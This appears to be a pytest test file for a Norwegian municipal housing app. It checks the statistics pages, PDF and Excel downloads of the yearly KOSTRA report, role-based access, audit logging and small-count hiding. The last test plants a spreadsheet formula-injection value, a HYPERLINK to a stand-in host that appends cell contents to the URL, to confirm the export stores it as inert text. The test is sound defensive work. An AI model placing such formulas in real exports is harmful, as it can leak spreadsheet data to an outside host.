"""The statistics pages, the yearly report's downloads (the PDF read back with
pdftotext, the workbook with openpyxl) and who may open them."""

import datetime
import io
import re
import subprocess

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from boligtorg.cases.factories import ApplicationFactory
from boligtorg.cases.models import ApplicationStatus, Situation
from boligtorg.core.factories import member
from boligtorg.core.models import AuditAction, AuditEvent, Role
from boligtorg.planning.factories_statistics import year_of_work

pytestmark = pytest.mark.django_db


@pytest.fixture
def work(trondheim, kari):
    return year_of_work(trondheim, kari)


@pytest.fixture
def mona(trondheim):
    """Mona the manager in Trondheim."""
    return member("mona", trondheim, Role.MANAGER, first_name="Mona", last_name="Berg")


def _pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    result = subprocess.run(  # noqa: S603 - a fixed tool on a temp file
        ["pdftotext", "-layout", "-enc", "UTF-8", str(path), "-"],  # noqa: S607
        capture_output=True,
        check=True,
    )
    # One line of the page per line of text, its columns one space apart.
    return "\n".join(" ".join(line.split()) for line in result.stdout.decode().splitlines())


def test_kari_opens_the_statistics_with_a_table_for_every_chart(english, kari, work):
    english.force_login(kari)
    response = english.get(
        reverse("planning:statistics"), {"year": work.year, "granularity": "month"}
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert html.count("<canvas") == html.count('<div class="bt-chart"')
    assert html.count("<canvas") >= 6  # the empty follow-up figures have none
    assert html.count("<table") >= html.count("<canvas")
    assert 'id="chart-data-applications_by_situation" type="application/json"' in html
    assert "vendor/chartjs/chart.umd.js" in html
    # No inline script: every <script> either loads a file or carries JSON data.
    for tag in html.split("<script")[1:]:
        assert tag.lstrip().startswith(("src=", 'id="chart-data-')), tag[:80]


def test_a_bad_year_or_period_names_the_field_and_shows_no_figures(english, kari):
    english.force_login(kari)
    response = english.get(reverse("planning:statistics"), {"year": "1800", "granularity": "week"})
    html = response.content.decode()
    assert response.status_code == 200
    assert "Year:" in html and "Periods:" in html
    assert "<canvas" not in html


def test_mona_reads_the_yearly_report_with_kostras_figures(english, mona, work):
    english.force_login(mona)
    response = english.get(reverse("planning:kostra_report"), {"year": work.year})
    assert response.status_code == 200
    html = response.content.decode()
    assert f"KOSTRA figures {work.year}, Trondheim" in html
    assert "Download PDF" in html


def test_the_pdf_report_has_the_exact_figures_and_kostras_items(english, mona, work, tmp_path):
    english.force_login(mona)
    response = english.get(reverse("planning:kostra_pdf"), {"year": work.year})
    assert response["Content-Type"] == "application/pdf"
    assert f'filename="kostra-{work.year}.pdf"' in response["Content-Disposition"]
    text = _pdf_text(response.content, tmp_path)
    assert "Trondheim municipality" in text
    assert f"Yearly report {work.year}" in text
    assert "Exact figures, not for publication." in text
    assert "Applications received 17" in text
    assert "of which granted 12 70.6 %" in text
    assert "of which refused 5 29.4 %" in text
    assert "Kommunalt eide boliger" in text and "Antall nyinnflyttede husstander" in text
    assert "Form 13, item 2" in text
    assert "No confirmed" in text
    assert not re.search(r" :( |$)", text, re.MULTILINE)  # no hidden count


def _xlsx_figures(content: bytes) -> tuple[list[tuple], dict[str, object]]:
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    return rows, {row[2]: row[3] for row in rows[5:] if row and len(row) > 3 and row[2]}


def test_the_excel_report_reads_back_with_the_exact_figures_and_items(english, mona, work):
    english.force_login(mona)
    response = english.get(reverse("planning:kostra_xlsx"), {"year": work.year})
    rows, figures = _xlsx_figures(response.content)
    assert rows[0][:2] == (f"Yearly report {work.year}", "Trondheim")
    assert rows[2][0] == "Exact figures, not for publication."
    assert rows[4][:2] == ("KOSTRA item", "Name in the form")
    assert figures["Applications received"] == 17
    assert figures["of which granted"] == 12
    assert (
        figures["of which new households (not living in a municipal dwelling when applying)"] == 5
    )
    assert figures["of which moving from another municipal dwelling"] == 1
    assert figures["Households waiting at the end of the year"] == 6
    assert figures["Municipally disposed dwellings"] == 13
    owned = next(row for row in rows if row[2] == "of which owned by the municipality")
    assert owned[:2] == ("Form 13, item 2 (SSB KOSEidavsamlet)", "Kommunalt eide boliger")
    received = next(row for row in rows if row[2] == "Applications received")
    assert received[:2] == ("No confirmed KOSTRA item", None)
    median = "Median days waited by the households waiting at the end of the year"
    assert figures[median] == 296


def test_a_count_of_three_is_exact_in_the_report_and_hidden_in_the_statistics(
    english, client, mona, trondheim
):
    year = timezone.localdate().year - 2
    for _ in range(3):
        ApplicationFactory(
            municipality=trondheim,
            status=ApplicationStatus.SUBMITTED,
            situation=Situation.WITHOUT_DWELLING,
            received_on=datetime.date(year, 3, 10),
        )
    english.force_login(mona)
    page = english.get(reverse("planning:kostra_report"), {"year": year}).content.decode()
    assert re.search(r">Applications received\s*</th>\s*<td class=\"bt-number\">3</td>", page)
    assert "The figures are exact and not for publication" in page
    workbook = english.get(reverse("planning:kostra_xlsx"), {"year": year}).content
    assert _xlsx_figures(workbook)[1]["Applications received"] == 3

    statistics = english.get(reverse("planning:statistics"), {"year": year, "granularity": "year"})
    figure = next(
        f for f in statistics.context["figures"].figures if f.key == "applications_by_situation"
    )
    row = figure.rows.index(str(year))
    assert all(cell.hidden for cell in figure.table.rows[row] if cell.value != 0)
    assert figure.table.row_totals[row].hidden
    client.force_login(mona)
    body = client.get("/api/planning/statistics", {"year": year, "granularity": "year"}).json()
    exported = next(f for f in body["figures"] if f["key"] == "applications_by_situation")
    row_out = next(r for r in exported["rows"] if r["label"] == str(year))
    assert row_out["total"] is None
    assert 3 not in row_out["cells"].values()


def test_every_download_is_audited(client, mona, work):
    client.force_login(mona)
    client.get(reverse("planning:kostra_pdf"), {"year": work.year})
    client.get(reverse("planning:kostra_xlsx"), {"year": work.year})
    events = AuditEvent.objects.filter(action=AuditAction.EXPORT, actor=mona)
    assert sorted(e.changes["format"] for e in events) == ["pdf", "xlsx"]
    assert all(e.changes["year"] == work.year for e in events)


def test_a_download_for_a_bad_year_is_refused(client, mona):
    client.force_login(mona)
    assert client.get(reverse("planning:kostra_pdf"), {"year": "abc"}).status_code == 400


def test_tone_the_administrator_reads_the_yearly_report(client, tone, work):
    client.force_login(tone)
    assert client.get(reverse("planning:kostra_report"), {"year": work.year}).status_code == 200


@pytest.mark.parametrize("name", ["kostra_report", "kostra_pdf", "kostra_xlsx"])
def test_kari_the_caseworker_may_not_open_the_exact_report(client, kari, name):
    client.force_login(kari)
    assert client.get(reverse(f"planning:{name}")).status_code == 403
    statistics = client.get(reverse("planning:statistics")).content.decode()
    assert "Yearly report" not in statistics


def test_stock_versus_need_marks_the_short_size(english, kari, work):
    english.force_login(kari)
    html = english.get(reverse("planning:stock_need")).content.decode()
    assert "2 bedrooms" in html and "Short" in html
    assert "Lade" in html
    assert 'id="chart-data-stock_need"' in html


@pytest.mark.parametrize("name", ["statistics", "kostra_report", "kostra_pdf", "stock_need"])
def test_per_the_auditor_gets_403(client, per, name):
    client.force_login(per)
    assert client.get(reverse(f"planning:{name}")).status_code == 403


def test_a_visitor_is_sent_to_log_in(client):
    response = client.get(reverse("planning:statistics"))
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_a_municipality_name_that_looks_like_a_formula_is_text_in_the_workbook(
    english, mona, work, trondheim
):
    trondheim.name = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'
    trondheim.save(update_fields=["name"])
    english.force_login(mona)
    response = english.get(reverse("planning:kostra_xlsx"), {"year": work.year})
    sheet = load_workbook(io.BytesIO(response.content)).active
    name = sheet["B1"]
    assert (name.data_type, name.value) == ("s", trondheim.name)
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
